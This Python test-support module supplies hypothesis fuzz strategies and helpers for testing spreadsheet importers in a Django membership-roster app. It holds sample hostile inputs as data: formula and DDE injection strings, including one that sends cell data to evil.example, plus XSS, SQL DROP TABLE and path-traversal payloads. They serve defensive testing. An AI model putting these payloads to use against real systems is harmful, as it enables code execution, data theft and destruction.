"""Hostile input for property-based tests (hypothesis), shared by every importer's tests.

    from hypothesis import given, settings as hsettings
    from dangjian.testsupport.fuzz import FUZZ, hostile_cell, workbook_bytes, data_digest

    @hsettings(**FUZZ)
    @given(rows=st.lists(st.lists(hostile_cell(), max_size=12), max_size=8))
    def test_my_import_never_500s(rows): ...

Checks every importer should make (see tests/security/test_security_fuzz_roster.py):
no unhandled exception (a Chinese error instead), nothing written when the import is
refused (`data_digest()` before == after), and exports escape formula-looking cells
(`assert_formula_safe(xlsx_bytes)`).
"""

from __future__ import annotations

import hashlib
import io
from datetime import date, datetime, time

from hypothesis import HealthCheck
from hypothesis import strategies as st

# Per test: enough to find bugs, bounded for CI; the suite runs thousands in total.
FUZZ = {
    "max_examples": 200,
    "deadline": None,
    "suppress_health_check": [HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
    "derandomize": True,  # the same cases in CI and on a laptop
}

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "＝1+1",  # full-width equals
    'DDE("cmd";"/C calc";"x")',
]
NASTY_TEXT = [
    "",
    " ",
    "\u3000",
    "null",
    "None",
    "NaN",
    "0",
    "-1",
    "1e309",
    "9" * 40,
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "'; DROP TABLE members_member; --",
    "../../etc/passwd",
    "\x00",
    "\x1b[31m",
    "a\x00b",
    "\ufeff姓名",
    "\u202e反转",
    "𠀀𪚥",
    "张三\n李四",
    "2023年13月45日",
    "0000-00-00",
    "9999-12-31",
    "1899-12-31",
    "45000",
    "110101199003070000",
    "11010119900307123X",
    "x" * 5000,
    "党" * 2000,
]
CONTROL = st.characters(min_codepoint=0, max_codepoint=31)


def hostile_text(max_size: int = 300) -> st.SearchStrategy[str]:
    """Strings a careless or malicious spreadsheet could contain."""
    return st.one_of(
        st.sampled_from(FORMULAS + NASTY_TEXT),
        st.text(max_size=max_size),
        st.text(alphabet=CONTROL, max_size=20),
        st.builds(lambda a, b: a + b, st.sampled_from(FORMULAS), st.text(max_size=30)),
        st.text(alphabet="张王李赵刘陈杨黄党支部村社区委员会一二三", min_size=1, max_size=12),
        st.from_regex(r"\A\d{17}[\dXx]\Z", fullmatch=True),
        st.from_regex(r"\A1[3-9]\d{9}\Z", fullmatch=True),
    )


def hostile_date() -> st.SearchStrategy:
    return st.one_of(
        st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)),
        st.datetimes(min_value=datetime(1, 1, 1), max_value=datetime(9999, 12, 31)),
        st.sampled_from(["2023-02-30", "2023年7月", "23.7.1", "1900-01-00", "明天", "2023/07/01 25:61"]),
        st.integers(min_value=-100000, max_value=3000000),  # Excel serial numbers, in or out of range
    )


def hostile_cell() -> st.SearchStrategy:
    """One spreadsheet cell: text, numbers (incl. nan/inf), booleans, dates, times, empty."""
    return st.one_of(
        hostile_text(),
        st.none(),
        st.booleans(),
        st.integers(min_value=-(10**20), max_value=10**20),
        st.floats(allow_nan=True, allow_infinity=True),
        hostile_date(),
        st.times(),
    )


def _xlsx_value(v):
    if isinstance(v, float) and (v != v or v in (float("inf"), float("-inf"))):
        return str(v)  # xlsx cannot hold nan/inf as numbers
    if isinstance(v, int) and not isinstance(v, bool) and abs(v) > 10**15:
        return str(v)
    if isinstance(v, date | datetime) and not isinstance(v, datetime) and v.year < 1900:
        return v.isoformat()
    if isinstance(v, datetime) and v.year < 1900:
        return v.isoformat()
    if isinstance(v, str):
        # openpyxl refuses characters XML cannot hold; a real file cannot contain them either.
        return "".join(ch for ch in v if ch in "\t\n\r" or ord(ch) >= 32)[:32767]
    if isinstance(v, time):
        return v
    return v


def workbook_bytes(rows: list[list], *, sheet: str = "Sheet1", extra_sheets: dict | None = None) -> bytes:
    """An .xlsx whose text cells stay text (a "=cmd|…" string must not become a formula)."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = sheet
    sheets = [(ws, rows)]
    for name, more in (extra_sheets or {}).items():
        sheets.append((wb.create_sheet(name), more))
    for target, data in sheets:
        for r, row in enumerate(data, start=1):
            for c, v in enumerate(row, start=1):
                cell = target.cell(row=r, column=c)
                cell.value = _xlsx_value(v)
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def data_digest() -> str:
    """Digest of every row of every project table (and accounts); equal before/after = nothing written."""
    from django.apps import apps

    h = hashlib.sha256()
    for model in apps.get_models():
        if not model.__module__.startswith("dangjian.") or model._meta.proxy:
            continue
        h.update(model._meta.db_table.encode())
        for row in model._base_manager.order_by("pk").values_list():
            h.update(repr(row).encode())
    return h.hexdigest()


def table_counts() -> dict[str, int]:
    from django.apps import apps

    return {
        model._meta.label: model._base_manager.count()
        for model in apps.get_models()
        if model.__module__.startswith("dangjian.") and not model._meta.proxy
    }


def formula_cells(xlsx: bytes) -> list[tuple[str, str]]:
    """Cells of an exported workbook that a spreadsheet would run as a formula."""
    from openpyxl import load_workbook

    from dangjian.core.xlsx import FORMULA_PREFIXES

    out = []
    wb = load_workbook(io.BytesIO(xlsx))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                v = cell.value
                if cell.data_type == "f" or (isinstance(v, str) and v.startswith(FORMULA_PREFIXES)):
                    out.append((f"{ws.title}!{cell.coordinate}", str(v)))
    return out


def assert_formula_safe(xlsx: bytes) -> None:
    bad = formula_cells(xlsx)
    assert not bad, f"exported cells that would run as formulas: {bad[:5]}"


# --- a roster file the members importer accepts ---------------------------------------------

# The importer's required columns in template order; each file adds its own optional last column.
ROSTER_COLUMNS = [
    "姓名",
    "性别",
    "民族",
    "公民身份号码",
    "出生日期",
    "学历",
    "人员类别",
    "所在党支部",
    "入党日期",
    "转为正式党员日期",
]
ROSTER_HEADER = [*ROSTER_COLUMNS, "家庭住址"]


def roster_rows(branch_name: str, n: int, *, start: int = 0, area: str = "620102") -> list[list]:
    """`n` valid roster rows for `branch_name` (distinct, valid 公民身份号码)."""
    from dangjian.rules.idcard import make_id

    rows = []
    for i in range(start, start + n):
        birth = date(1950 + i % 40, 1 + i % 12, 1 + i % 28)
        joined = date(birth.year + 25 + i % 5, 7, 1)
        seq = (i * 2 + 1) % 1000
        rows.append(
            [
                f"导入党员{i}",
                "男",
                "汉族",
                make_id(area, birth, seq),
                birth,
                "高中",
                "正式党员",
                branch_name,
                joined,
                date(joined.year + 1, 7, 1),
                f"幸福路{i}号",
            ]
        )
    return rows
